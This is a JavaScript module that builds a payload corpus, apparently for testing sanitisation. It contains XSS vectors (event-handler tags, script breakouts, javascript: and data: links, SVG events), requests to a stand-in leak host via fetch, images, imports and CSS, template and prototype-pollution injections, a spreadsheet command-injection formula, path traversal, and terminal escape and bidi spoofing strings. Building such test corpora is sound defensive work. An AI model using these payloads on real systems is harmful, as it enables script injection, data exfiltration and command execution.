/**
 * Texts that try to become something else: script, markup, Markdown, SVG, addresses, templates, terminal codes, directions of
 * text. Made from parts, so that each way in meets each way to run. `__ran()` tells that one of them ran; addresses lead to a
 * host that is asked for nowhere else.
 */
const HOST = 'https://leak.test';
const RUNS = ['__ran()', 'window.__ran()', "fetch('https://leak.test/f')", "new Image().src='https://leak.test/i'", "import('https://leak.test/m.js')", 'location="https://leak.test/l"', "eval('__ran()')", 'alert(1)'];

const TAGS = ['img src=x', 'svg', 'body', 'video src=x', 'audio src=x', 'details open', 'input autofocus', 'iframe', 'object data=x', 'embed src=x', 'marquee', 'math', 'style', 'link rel=stylesheet href=x', 'select autofocus', 'textarea autofocus', 'button autofocus', 'a href=# autofocus', 'p style=animation:x', 'custom-element'];
const EVENTS = ['onerror', 'onload', 'ontoggle', 'onfocus', 'onanimationstart', 'onmouseover', 'onbegin', 'onpageshow'];
const events = TAGS.flatMap((tag) => EVENTS.map((event, i) => `<${tag} ${event}="${RUNS[i % RUNS.length]}">`));

const scripts = RUNS.flatMap((run) => [
  `<script>${run}</script>`, `<ScRiPt>${run}</sCrIpT>`, `"><script>${run}</script>`, `'><script>${run}</script>`, `</title><script>${run}</script>`, `</textarea><script>${run}</script>`,
  `</style><script>${run}</script>`, `--><script>${run}</script>`, `]]><script>${run}</script>`, `<script/src="data:text/javascript,${run}"></script>`, `<svg><script>${run}</script></svg>`, `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`, `<iframe srcdoc="<script>parent.${run}</script>">`, `<scr<script>ipt>${run}</scr</script>ipt>`,
]);

const SCHEMES = ['javascript:', 'JaVaScRiPt:', 'java\tscript:', 'java\nscript:', '\u0001javascript:', 'javascript&colon;', '&#106;avascript:', 'vbscript:', 'data:text/html,', 'data:text/html;base64,', 'blob:', 'filesystem:', 'view-source:javascript:', 'feed:javascript:'];
const links = SCHEMES.flatMap((scheme) => [`[click](${scheme}__ran())`, `<a href="${scheme}__ran()">x</a>`, `![x](${scheme}__ran())`, `[x]: ${scheme}__ran()\n\n[x]`, `${scheme}__ran()`, `<${scheme}__ran()>`, `<form action="${scheme}__ran()"><button>`]);

const remote = [
  `![x](${HOST}/a.png)`, `![x](//leak.test/b.png)`, `[![x](${HOST}/c.png)](${HOST}/d)`, `![x][r]\n\n[r]: ${HOST}/e.png`, `<img src="${HOST}/g.png">`, `<img srcset="${HOST}/h.png 2x">`, `<picture><source srcset="${HOST}/i.png"><img></picture>`,
  `<link rel=prefetch href="${HOST}/j">`, `<link rel=dns-prefetch href="${HOST}">`, `<link rel=preconnect href="${HOST}">`, `<link rel=stylesheet href="${HOST}/k.css">`, `<meta http-equiv=refresh content="0;url=${HOST}/l">`, `<base href="${HOST}/">`,
  `<style>@import '${HOST}/m.css'</style>`, `<style>body{background:url(${HOST}/n.png)}</style>`, `<p style="background:url(${HOST}/o.png)">`, `<iframe src="${HOST}/p"></iframe>`, `<object data="${HOST}/q"></object>`, `<embed src="${HOST}/r">`, `<video poster="${HOST}/s.png">`,
  `<audio src="${HOST}/t.mp3">`, `<svg><image href="${HOST}/u.svg"/></svg>`, `<svg><use href="${HOST}/v.svg#x"/></svg>`, `<svg><feImage href="${HOST}/w.svg"/></svg>`, `<input type=image src="${HOST}/x.png">`, `<body background="${HOST}/y.png">`, `<form action="${HOST}/z"><input autofocus></form>`,
  `<a href="${HOST}" ping="${HOST}/ping">x</a>`, `${HOST}/autolink`, `<${HOST}/angle>`, `[^1]\n\n[^1]: ![x](${HOST}/foot.png)`, `\`\`\`mermaid\ngraph TD; A-->B; click A "${HOST}"\n\`\`\``, `$$\\href{${HOST}}{x}$$`, `<script type=importmap>{"imports":{"preact":"${HOST}/x.js"}}</script>`, `<track src="${HOST}/t.vtt">`, `<portal src="${HOST}/portal">`,
];

const svg = ['onload', 'onbegin', 'onend', 'onrepeat'].flatMap((event) => [
  `<svg ${event}=__ran()>`, `<svg><animate ${event}=__ran() attributeName=x dur=1s>`, `<svg><set ${event}=__ran() attributeName=x>`, `<svg><a href="javascript:__ran()"><text>x</text></a>`, `<svg><foreignObject><img src=x onerror=__ran()></foreignObject></svg>`, `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' ${event}='__ran()'/>`,
]);

const templates = ['{{7*7}}', '${7*7}', '#{7*7}', '<%= 7*7 %>', '{{constructor.constructor("__ran()")()}}', '${__ran()}', '{%raw%}', '[[${7*7}]]', '%s%n%d', '%00', '{{{__ran()}}}', "{{'a'.constructor.prototype.charAt=[].join}}", '@(7*7)', '*{7*7}', '~{7*7}', '=cmd|"/C calc"!A0', '+1+1', '@SUM(1)', '-2+3', '__proto__', 'constructor', 'toString', '{"__proto__":{"polluted":1}}', '../../etc/passwd', 'CON', '\\\\host\\share'];

const controls = [
  '\u0000', '\u0007', '\u001B[31mred\u001B[0m', '\u001B[2J\u001B[H', '\u001B]0;title\u0007', '\u001B]8;;https://leak.test/osc\u0007link\u001B]8;;\u0007', '\u001B]52;c;YQ==\u0007', '\u009B31m', '\r\noverwritten', 'a\u0008b', '\u007F', '\u2028', '\u2029', '\uFEFF', '\u200B', '\u2060', '\uFFF9x\uFFFA', '\u{E0041}\u{E0042}', '\uFFFF', '\u0085',
  '\u202Egpj.exe', '\u202Dabc', '\u202Aabc', '\u202Babc', '\u2066abc', '\u2067abc', '\u2068abc', '\u200Eabc', '\u200Fabc', '\u061Cabc', '\u202Eabc\u202Cdef', 'אבג abc', 'العربية abc 123', 'user\u202E\u2066 //evil\u2069 \u2066', 'Z\u0335\u0321a\u0336\u0322l\u0337g\u0338o\u0339', 'a'.repeat(3_000), 'w'.repeat(200), '👩‍👩‍👧‍👦👩‍💻🏳️‍🌈', '𝓊𝓃𝒾', 'ﷺ', 'раураl.com', '\t\t\ttabs', '   ', '\n\n\n',
];

/** All of them, each once. */
export const PAYLOADS = [...new Set([...events, ...scripts, ...links, ...remote, ...svg, ...templates, ...controls])];
